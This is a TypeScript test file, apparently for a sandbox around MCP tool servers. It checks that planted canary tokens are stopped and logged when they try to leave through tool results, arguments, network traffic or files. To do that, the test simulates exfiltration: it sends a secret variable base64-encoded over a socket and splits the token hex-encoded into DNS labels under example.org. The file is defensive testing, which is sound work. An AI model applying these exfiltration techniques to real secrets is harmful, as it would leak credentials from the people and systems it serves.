import { lookup } from 'node:dns/promises';
import { createServer, type Server } from 'node:net';
import { hostname } from 'node:os';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { backends } from '../../../src/engine/box/index.ts';
import { ProbeHome } from './probe.ts';

/** A token that was planted through one server, on its way through others: stopped, and told with both ends. */

const bwrap = backends.find(({ id }) => id === 'bwrap');
const probed = await bwrap?.probe({ runtimeFolder: '/tmp' });
const name = hostname().toLowerCase();
const own = await lookup(name, { family: 4 }).catch(() => null);
const isUsable = probed?.is === 'yes' && process.getuid?.() === 0 && own !== null;

interface Content {
  readonly result?: { readonly content: readonly { readonly text: string }[] };
  readonly error?: { readonly code: number; readonly data: { readonly rule: string; readonly details?: unknown } };
}

describe.skipIf(!isUsable)('canaries across servers', () => {
  const home = new ProbeHome();
  const heard: Buffer[] = [];
  let server: Server;
  let port = 0;
  const address = own?.address ?? '';

  beforeAll(async () => {
    server = createServer((socket) => {
      socket.on('error', () => undefined).on('data', (chunk: Buffer) => void heard.push(chunk));
    });
    await new Promise<void>((resolve) => void server.listen(0, address, resolve));
    const found = server.address();
    port = typeof found === 'object' && found !== null ? found.port : 0;
  });
  afterAll(async () => {
    server.close();
    await home.close();
  });

  it('do not leave in results, arguments, traffic or files without being told', async () => {
    const planted = { inResults: true, variables: ['SERVICE_KEY'] };
    const hosts = [
      { host: name, port },
      { host: address, port },
    ];
    const first = await home.open('bwrap', { name: 'first', canaries: planted, flags: { hosts } });
    const ask = async (probe: typeof first, tool: string, given: Readonly<Record<string, unknown>>): Promise<Content> =>
      (await probe.request('tools/call', { name: tool, arguments: given })) as Content;

    // The value of its own variable is not for the client.
    expect((await ask(first, 'environment', {})).error?.data.rule).toBe('canaries/leaving');
    const { result } = await ask(first, 'echo', { value: 'hello' });
    const [, token = ''] = /\[reference (__MCP_CANARY_[0-9a-f]{64}__)\]/.exec(JSON.stringify(result)) ?? [];
    expect(token).not.toBe('');

    // An ordinary connection works; one that carries the token is broken off before it does.
    await ask(first, 'send', { host: name, port, variable: 'NOT_SET', encoding: 'hex' });
    await expect.poll(() => Buffer.concat(heard).toString()).toContain('hello');
    heard.length = 0;
    await ask(first, 'send', { host: name, port, variable: 'SERVICE_KEY', encoding: 'base64' });

    // Cut up into the labels of a name that it looks up.
    const labels =
      Buffer.from(token)
        .toString('hex')
        .match(/.{1,50}/g) ?? [];
    await ask(first, 'look_up', { host: `${labels.join('.')}.example.org` });

    const second = await home.open('bwrap', { name: 'second' });
    const carried = await ask(second, 'echo', { value: Buffer.from(token).toString('base64') });
    expect(carried.error?.data.rule).toBe('canaries/leaving');
    await second.close();

    // In audit it goes on, and what the server keeps of it is found when it ends.
    const third = await home.open('bwrap', { name: 'third', mode: 'audit' });
    expect((await ask(third, 'write', { path: '/tmp/kept', value: Buffer.from(token).toString('hex') })).error).toBe(
      undefined,
    );
    await third.close();
    await first.close();

    expect(Buffer.concat(heard).toString()).toBe('');
    const leaks = (await home.entries()).filter(({ action }) => action === 'canary.leak');
    const told = leaks.map(({ server: where, details }) => `${where} ${JSON.stringify(details)}`).join('\n');
    for (const channel of ['results', 'network', 'arguments', 'files']) expect(told).toContain(`"${channel}"`);
    expect(told).toContain('names of example.org');
    expect(told).toContain('first');
    expect(told).not.toContain(token);
    const broken = (await home.entries()).filter(({ action }) => action === 'egress.refuse');
    expect(broken.map(({ rule }) => rule)).toContain('egress/inspected');
    expect(await home.verify()).toBe(true);
  });
});
